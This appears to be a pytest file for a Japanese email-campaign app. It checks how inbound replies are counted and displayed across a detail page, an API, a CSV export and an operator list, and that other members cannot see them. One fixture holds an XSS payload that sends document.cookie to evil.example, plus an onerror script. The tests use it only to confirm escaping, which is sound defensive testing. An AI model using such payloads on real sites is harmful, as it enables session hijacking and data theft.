"""反響 as members and operators see it, after real mail went through ``mikomi mailin``: the
detail page (counts, rates, the replies' text — escaped, never HTML), the API, the results
CSV and the operators' list."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient

from shared.db import transaction
from shared.enums import Role
from tests.coordinator.responses import mails
from tests.coordinator.responses.replies import SENT, Mailin, make_sent_items
from tests.support.web import login

HOSTILE = (
    "<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script>"
    "<p>ご提案ありがとうございます。<b>ぜひ</b>お話を伺いたいです。</p>"
    "<img src=x onerror=alert(1)></body></html>"
)


class _User:
    def __init__(self, email: str) -> None:
        self.email = email


@pytest.fixture
def browser(mail_db: str) -> Iterator[TestClient]:
    from coordinator.app import create_app

    with TestClient(create_app()) as client:
        yield client


def _operator() -> _User:
    from coordinator.accounts import service

    email = f"op-{uuid.uuid4().hex[:8]}@example.test"
    with transaction() as db:
        service.create_user(
            db, email=email, password="password-123", role=Role.OPERATOR, company=None, name="運営"
        )
    return _User(email)


def test_detail_page_api_csv_and_operator_list(mailin: Mailin, browser: TestClient) -> None:
    sent = make_sent_items([SENT, SENT, SENT, SENT])
    auto, human, refusing, hostile = sent.items
    mailin.send(
        mails.iso2022jp(auto, "【自動返信】お問い合わせありがとうございます", "受付しました"),
        [auto],
    )
    mailin.send(mails.shift_jis(human, "Re: ご提案の件", "来週ご都合いかがでしょうか。"), [human])
    mailin.send(mails.utf8_qp(refusing, "Re: ご案内", "今後のご連絡は不要です。"), [refusing])
    mailin.send(mails.html_only(hostile, "Re: <script>alert('s')</script>件名", HOSTILE), [hostile])
    rid = sent.reservation_id

    login(browser, _User(sent.member_email))
    page = browser.get(f"/reservations/{rid}")
    assert page.status_code == 200
    html = page.text
    section = html[html.index('id="responses"') :]
    assert 'data-response="auto_replies">1<' in section
    assert 'data-response="replies">2<' in section  # the human one and the hostile one
    assert 'data-response="refusals">1<' in section
    assert 'data-rate="reply_rate">50.0%<' in section  # 2 of 4 sent
    assert 'data-rate="refusal_rate">25.0%<' in section
    assert 'data-rate="delivery_rate">100.0%<' in section
    assert "来週ご都合いかがでしょうか。" in section
    assert "今後のご連絡は不要です。" in section and "お断り" in section
    # the hostile mail: its text only, its subject escaped; nothing of its HTML on the page
    assert "ご提案ありがとうございます。ぜひお話を伺いたいです。" in section
    assert "&lt;script&gt;alert(&#39;s&#39;)&lt;/script&gt;件名" in section
    assert "evil.example" not in html and "onerror" not in html and "<script>alert" not in html

    api = browser.get(f"/api/v1/reservations/{rid}/responses").json()
    assert api["total"] == 4
    assert api["counts"]["replies"] == 2 and api["counts"]["rates"]["reply_rate"] == 0.5
    assert {r["counted_as"] for r in api["responses"]} == {"auto_reply", "reply", "refusal"}
    reservation = browser.get(f"/api/v1/reservations/{rid}").json()
    assert (reservation["auto_replies"], reservation["replies"], reservation["refusals"]) == (
        1,
        2,
        1,
    )
    assert reservation["clicks"] == 0
    assert browser.get(f"/api/v1/reservations/{rid}/responses?kind=nonsense").status_code == 400

    got = browser.get(f"/reservations/{rid}/results.csv")
    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    header = rows[0]
    assert header[-5:] == ["自動返信", "返信", "お断り", "不達通知", "クリック"]
    by_id = {int(row[0]): row for row in rows[1:]}
    assert by_id[sent.items[auto]][-5:] == ["1", "0", "0", "0", "0"]
    assert by_id[sent.items[refusing]][-5:] == ["0", "0", "1", "0", "0"]

    browser.cookies.clear()
    login(browser, _operator())
    listing = browser.get("/operator/reservations").text
    row = listing[listing.index(f'<tr data-live="{rid}"') :]
    row = row[: row.index("</tr>")]
    assert '<span data-counter="replies">2</span>件<div class="hint">50.0%</div>' in row
    assert "25.0%" in row
    assert browser.get(f"/api/v1/reservations/{rid}/responses").status_code == 200


def test_another_member_sees_nothing(mailin: Mailin, browser: TestClient) -> None:
    sent = make_sent_items([SENT])
    [address] = sent.items
    mailin.send(mails.utf8_qp(address, "Re: ご提案", "秘密の返信です"), [address])
    other = make_sent_items([SENT])
    login(browser, _User(other.member_email))
    assert browser.get(f"/api/v1/reservations/{sent.reservation_id}/responses").status_code == 404
    page = browser.get(f"/reservations/{sent.reservation_id}")
    assert page.status_code == 404 and "秘密の返信です" not in page.text
